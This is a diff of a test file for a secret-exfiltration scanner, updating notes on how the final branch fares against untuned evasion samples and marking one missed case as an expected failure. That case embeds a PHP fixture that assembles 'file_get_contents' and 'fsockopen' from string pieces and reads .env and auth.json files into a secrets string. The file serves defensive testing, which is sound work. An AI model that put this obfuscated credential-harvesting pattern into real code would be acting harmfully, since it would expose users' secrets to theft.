@@ -1,8 +1,12 @@
 """Untuned variants of flowx23's mechanisms: written before the scanner was read and not looked at again
-while the fixes were made, so they estimate how the fixes fare at first sight on a new set.
+while the fixes were made, so they estimate how the fixes fare at first sight on a new set: the final
+branch catches 5 of 6 (the starting scanner 3: the shell script sourcing its settings, the Deno query
+string and the curl user agent); the miss is marked, not tuned on.
 """
 
 from __future__ import annotations
+
+import pytest
 
 from tests.scan.gap_helpers import scan
 
@@ -75,6 +79,7 @@ def test_untuned_curl_user_agent_carries_gh_token():
     assert _bad(r), r.findings
 
 
+@pytest.mark.xfail(strict=True, reason="missed at first sight by the final branch; kept untuned (not investigated)")
 def test_untuned_php_table_of_computed_names_fsockopen():
     php = ("<?php\n$ops = ['r' => 'file_' . 'get_' . 'contents', 'o' => 'fsock' . 'open'];\n$secrets = '';\n"
            "foreach (glob(getcwd() . '/{.env,.env.*,auth.json}', GLOB_BRACE) as $f) { $secrets .= $ops['r']($f) . \"\\n\"; }\n"
